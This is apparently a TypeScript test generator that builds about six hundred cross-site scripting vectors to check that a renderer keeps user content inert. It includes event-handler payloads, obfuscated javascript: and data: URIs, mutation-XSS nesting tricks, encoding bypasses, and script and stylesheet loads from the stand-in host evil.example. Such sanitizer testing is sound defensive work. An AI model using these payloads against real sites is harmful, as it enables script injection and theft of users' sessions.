/** One attempt to make a reader's browser do something, and a word that must stay to be read. */
export interface Vector {
  text: string
  word: string
}

const TAGS = [
  ...['img src=x', 'svg', 'body', 'video src=x', 'audio src=x', 'input autofocus', 'details open'],
  ...['marquee', 'object data=x', 'embed src=x', 'form', 'button', 'math', 'a href=#', 'style'],
  ...[
    'div tabindex=0',
    'select autofocus',
    'textarea autofocus',
    'iframe src=x',
    'link href=x',
    'x',
  ],
]
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onmouseover',
  'onpointerenter',
  'onclick',
]

const ADDRESSES = [
  ...['javascript:@', 'JaVaScRiPt:@', 'java\tscript:@', ' javascript:@', '\u0001javascript:@'],
  ...['javascript&colon;@', '&#106;avascript:@', '&#x6A;avascript:@', 'jav&Tab;ascript:@'],
  ...[
    'data:text/html,<script>@</script>',
    'data:text/html;base64,PHNjcmlwdD5fX3B3bigpPC9zY3JpcHQ+',
  ],
  ...['vbscript:@', 'javascript://%0a@', 'javas\u00adcript:@', '//evil.example/%0ajavascript:@'],
  ...['data:image/svg+xml,<svg onload=@>', 'feed:javascript:@', 'view-source:javascript:@'],
]
const PLACES = [
  ...['[go](~)', '[go](<~>)', '<~>', '![go](~)', '[go]: ~\n\n[go]', '[go](~ "title")'],
  ...[
    '<a href="~">go</a>',
    '<img src="~">',
    '<iframe src="~"></iframe>',
    '<form action="~"><button>',
  ],
  ...['<svg><a xlink:href="~"><text>go</text></a></svg>', '<base href="~">', '<object data="~">'],
]

const NESTED = [
  '<svg><style><img src=x onerror=@></style>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=@>">',
  '<template><script>@</script></template>',
  '<textarea></textarea><img src=x onerror=@>',
  '<title><img src=x onerror=@></title>',
  '<xmp><p title="</xmp><svg/onload=@>">',
  '<!--><img src=x onerror=@>-->',
  '<![CDATA[<img src=x onerror=@>]]>',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<<script>@//<</script>',
  '<svg><desc><table><style></desc><img src=x onerror=@>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=@>',
  '<details><summary>go</summary><iframe srcdoc="<script>parent.@</script>"></iframe></details>',
  '<svg><animate onbegin=@ attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=@>#x">',
  '<svg><set attributeName=onmouseover to=@>',
  '<meta http-equiv=refresh content="0;url=javascript:@">',
  '<style>@import "//evil.example/x.css"; *{background:url(//evil.example/x)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<script src=//evil.example/x.js></script>',
  '<div style="background:url(//evil.example/x);position:fixed;inset:0">',
  '<form id=reply><input name=action><input name=submit>',
  '<a data-part=main href=x id=live-on data-live-on=lists>',
]

const MARKDOWN = [
  '```~\ncode\n```',
  '| a | ~ |\n|-|-|\n| ~ | b |',
  '# ~',
  '> > ~',
  '- 1. ~',
  '[~](https://example.org)',
  '[go](https://example.org "~")',
  '![~](/uploads/x.webp)',
  '**_~_**',
  '@bo~',
  ':smile~:',
  '<https://example.org/~>',
  'https://example.org/~',
  '`~`',
  '[^~]',
  '[x]: https://example.org "~"\n\n[x]',
  '\\~',
  '&lt;~&gt;',
  '$~$ {{~}} ${~} <%= ~ %>',
]
const INSIDE = [
  '<img src=x onerror=@>',
  '"onmouseover="@',
  "'><svg/onload=@>",
  '</title><script>@</script>',
]

const UNICODE = [
  '\uff1cscript\uff1e@\uff1c/script\uff1e',
  '\u202e<img src=x onerror=@>',
  '<img\u2028src=x\u2029onerror=@>',
  '<img/\u0000src=x/onerror=@>',
  '<img src=x onerror\u0000=@>',
  '+ADw-script+AD4-@+ADw-/script+AD4-',
  '%3Cscript%3E@%3C/script%3E',
  '&lt;script&gt;@&lt;/script&gt;',
  '&#60;img src=x onerror=@&#62;',
  '\\u003cscript\\u003e@\\u003c/script\\u003e',
  '<ſcript>@</ſcript>',
  '<İmg src=x onerror=@>',
  '\ufeff<script>@</script>',
]

/** Families, each in all its members: some six hundred. */
export function makeVectors(): Vector[] {
  const shapes = [
    ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=@>`)),
    ...PLACES.flatMap((place) => ADDRESSES.map((address) => place.replaceAll('~', address))),
    ...MARKDOWN.flatMap((place) => INSIDE.map((inside) => place.replaceAll('~', inside))),
    ...NESTED,
    ...UNICODE,
  ]
  return shapes.map((shape, number) => {
    const word = `seen${number}x`
    return { word, text: `${word} ${shape.replaceAll('@', `__pwn(${number})`)}` }
  })
}
